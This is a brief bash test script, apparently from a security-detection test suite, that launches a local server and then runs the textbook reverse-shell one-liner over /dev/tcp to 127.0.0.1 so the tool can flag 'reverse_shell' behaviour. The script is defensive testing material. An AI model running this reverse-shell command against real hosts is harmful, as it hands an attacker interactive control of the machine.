#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# expects: reverse_shell reverse_shell_cmdline
. "$(dirname "$0")/common.bash"

# The textbook line, with a server that says `exit`.
coproc SERVER { shell_server; }
read -r port <&"${SERVER[0]}"
fact port "$port"
timeout 120 setsid --wait \
	bash -c "bash --norc -i >& /dev/tcp/127.0.0.1/$port 0>&1"
